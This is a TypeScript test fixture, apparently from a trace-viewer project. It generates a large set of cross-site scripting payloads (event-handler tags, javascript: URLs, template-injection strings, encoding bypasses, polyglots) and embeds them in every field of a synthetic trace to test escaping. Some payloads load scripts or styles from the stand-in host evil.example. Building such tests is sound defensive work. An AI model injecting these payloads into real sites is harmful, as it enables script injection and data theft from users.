// Known XSS payload forms, generated from real attack shapes (tag/handler templates × invocations × context
// breakers) plus hand-listed specials (javascript: URLs, template-literal and unicode-escape variants, polyglots,
// embedding breakers, network beacons). Every payload that executes calls `__xss()`, `alert`, `confirm` or
// `prompt`; every payload that fetches targets evil.example or 127.0.0.1:9. test/fixtures/xss-payloads.txt holds
// the output, one per line.
import type { Attribute, Span, Trace } from '../../../src/core/model/trace';
import { SpanStatusCode } from '../../../src/core/model/trace';

const TEMPLATES = [
  '<script>{js}</script>',
  '<ScRiPt>{js}</sCrIpT>',
  '<script type="text/javascript">{js}</script>',
  '<script src="data:text/javascript,{js}"></script>',
  '<img src=x onerror={js}>',
  '<img src="x" onerror="{js}">',
  '<img/src=x/onerror={js}>',
  '<svg onload={js}>',
  '<svg/onload={js}>',
  '<svg><script>{js}</script></svg>',
  '<body onload={js}>',
  '<iframe onload={js}></iframe>',
  '<iframe src="javascript:{js}"></iframe>',
  '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
  '<input autofocus onfocus={js}>',
  '<details open ontoggle={js}>',
  '<video><source onerror={js}></video>',
  '<audio src=x onerror={js}>',
  '<a href="javascript:{js}">click</a>',
  '<form action="javascript:{js}"><input type=submit></form>',
  '<object data="javascript:{js}"></object>',
  '<embed src="javascript:{js}">',
  '<marquee onstart={js}>x</marquee>',
  '<div onmouseover="{js}">hover</div>',
  '<math><mtext><img src=x onerror={js}></mtext></math>',
  '<select autofocus onfocus={js}>',
  '<textarea autofocus onfocus={js}></textarea>',
  '<style onload={js}></style>',
  '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
  '<body/onpageshow={js}>',
  '<x onclick={js}>click me</x>',
  '<img src=x onerror=\'{js}\'>',
  '<svg><animate onbegin={js} attributeName=x dur=1s>',
  '<img src=x:x onerror=eval(atob("X194c3MoKQ=="))>{js}',
];

const INVOCATIONS = ['__xss()', 'window.__xss()', 'alert(1)', 'top.__xss()'];

/** Where the text might land if a renderer pasted it into markup: plain, in an attribute, in a script, in a comment. */
const BREAKERS = ['', '">', "'>", '</script>'];

const SPECIALS = [
  // javascript: URLs
  'javascript:__xss()',
  'JaVaScRiPt:__xss()',
  'javascript&colon;__xss()',
  '&#106;avascript:__xss()',
  '&#x6A;avascript:alert(1)',
  'java\tscript:__xss()',
  ' javascript:alert(1)',
  'data:text/html,<script>__xss()</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+',
  'vbscript:msgbox(1)',
  // template literals and client-side template injection
  '${__xss()}',
  '`${__xss()}`',
  '{{constructor.constructor(\'__xss()\')()}}',
  '{{$on.constructor(\'__xss()\')()}}',
  '#{__xss()}',
  '<%= __xss() %>',
  '{{7*7}}',
  '${{__xss()}}',
  '[[${__xss()}]]',
  '{{= __xss() }}',
  // unicode / entity / percent escapes of markup
  '\\u003cscript\\u003e__xss()\\u003c/script\\u003e',
  '\\x3cscript\\x3e__xss()\\x3c/script\\x3e',
  '&lt;script&gt;__xss()&lt;/script&gt;',
  '%3Cscript%3E__xss()%3C/script%3E',
  '\\u003cimg src=x onerror=__xss()\\u003e',
  '\uff1cscript\uff1e__xss()\uff1c/script\uff1e',
  '<scr<script>ipt>__xss()</scr</script>ipt>',
  '<<script>script>__xss()<</script>/script>',
  '&#60;script&#62;__xss()&#60;/script&#62;',
  '\\"><script>__xss()</script>',
  // polyglots
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=__xss() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__xss()//>\\x3e',
  '\'"><img src=x onerror=__xss()>',
  '"\'--></style></script><script>__xss()</script>',
  '</title><svg/onload=__xss()>',
  '-->"\'><svg onload=__xss()>',
  '"><svg/onload=alert(1)>"@x.y',
  '\'-alert(1)-\'',
  '";alert(1);//',
  '\';__xss();//',
  '</textarea><script>__xss()</script>',
  // breaking out of an embedding (JSON in a script element, HTML comments, line separators)
  '</script><script>__xss()</script>',
  '</script ><script>__xss()</script >',
  '</SCRIPT><SCRIPT>__xss()</SCRIPT>',
  '<!--<script>__xss()</script>-->',
  '--><script>__xss()</script><!--',
  '<!--<img src="--><img src=x onerror=__xss()//">',
  '\u2028__xss()\u2029',
  '"},"x":"<script>__xss()</script>',
  ']]><script>__xss()</script>',
  '<![CDATA[<script>__xss()</script>]]>',
  // requests that would leave the page
  '<img src="http://127.0.0.1:9/leak">',
  '<link rel=prefetch href="https://evil.example/">',
  '<script src="https://evil.example/x.js"></script>',
  '<base href="https://evil.example/">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<div style="background:url(https://evil.example/bg.png)">x</div>',
  '<img srcset="https://evil.example/a.png 1x">',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<video poster="https://evil.example/p.png"></video>',
  '<form action="https://evil.example/"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  // CSS
  '<div style="width:expression(__xss())">x</div>',
  '<style>*{background:url("javascript:__xss()")}</style>',
  '<style>body{display:none}</style>',
  // keys that trip naive object handling
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
];

export function generateXssPayloads(): string[] {
  const out = new Set<string>();
  for (const template of TEMPLATES) {
    for (const js of INVOCATIONS) {
      for (const breaker of BREAKERS) out.add(`${breaker}${template.replaceAll('{js}', js)}`);
    }
  }
  for (const s of SPECIALS) out.add(s);
  return [...out];
}

export function parseXssPayloadFile(text: string): string[] {
  return text.split('\n').filter((line) => line !== '');
}

/**
 * A trace whose every untrusted field carries payloads: span names, service names, attribute keys and values,
 * resource attributes, status messages, event names and attributes, link ids, span and trace warnings.
 */
export function hostileTrace(payloads: readonly string[], traceId = '0000000000000000000000000000beef'): Trace {
  const p = (i: number): string => payloads[i % payloads.length]!;
  const attr = (key: string, value: string): Attribute => ({ key, type: 'string', value });
  const t0 = 1_700_000_000_000_000;
  const spans: Span[] = [];
  const services = payloads.slice(0, 25);
  const base = (i: number, parent: string | undefined, start: number, duration: number, name: string, service: string): Span => ({
    traceId,
    spanId: (i + 1).toString(16).padStart(16, '0'),
    parentSpanId: parent,
    service,
    resource: [attr(p(i + 3), p(i + 4)), attr('host.name', p(i + 5))],
    name,
    kind: undefined,
    startTimeUs: start,
    durationUs: duration,
    status: { code: i % 7 === 0 ? SpanStatusCode.ERROR : SpanStatusCode.UNSET, message: p(i + 6) },
    error: i % 7 === 0,
    attributes: [attr(p(i + 1), p(i)), attr('http.url', p(i + 2)), attr('db.statement', p(i + 7)), { key: p(i + 8), type: 'array', value: JSON.stringify([p(i), p(i + 1)]) }],
    events: [{ timeUs: start + duration / 2, name: p(i + 9), attributes: [attr(p(i + 10), p(i + 11))] }],
    links: [{ traceId: p(i + 12), spanId: p(i + 13), kind: 'link', attributes: [attr(p(i + 14), p(i + 15))] }],
    orphan: false,
    warnings: [p(i + 16)],
  });
  spans.push(base(0, undefined, t0, 1_000_000, p(0), services[0]!));
  for (let i = 0; i < payloads.length; i++) {
    spans.push(base(i + 1, spans[Math.floor(i / 8)]!.spanId, t0 + 1000 + i * 1500, 1000 + (i % 13) * 300, p(i), services[i % services.length]!));
  }
  spans.sort((a, b) => a.startTimeUs - b.startTimeUs);
  return { traceId, spans, warnings: payloads.slice(0, 20).map((message) => ({ kind: 'source' as const, message })) };
}
